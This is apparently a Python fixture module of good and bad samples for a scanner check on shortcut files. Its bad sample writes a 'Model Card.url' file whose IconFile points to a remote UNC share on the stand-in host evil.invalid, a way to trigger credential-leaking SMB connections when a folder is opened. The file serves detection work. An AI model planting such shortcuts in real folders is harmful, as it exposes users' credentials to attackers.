"""Samples of `shortcut-target`."""

from __future__ import annotations

from pathlib import Path


def bad(folder: Path) -> str:
    (folder / "Model Card.url").write_text(
        "[InternetShortcut]\nURL=https://example.org/\nIconFile=\\\\evil.invalid\\share\\i.ico\n"
    )
    return "Model Card.url"


def good(folder: Path) -> None:
    (folder / "Docs.url").write_text(
        "[InternetShortcut]\r\nURL=https://huggingface.co/docs\r\nIconIndex=0\r\n"
    )
    (folder / "desktop.ini").write_text(
        "[.ShellClassInfo]\nIconResource=C:\\WINDOWS\\system32\\shell32.dll,3\n"
    )
    (folder / "Docs.webloc").write_text(
        '<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key>'
        "<string>https://example.org/</string></dict></plist>"
    )
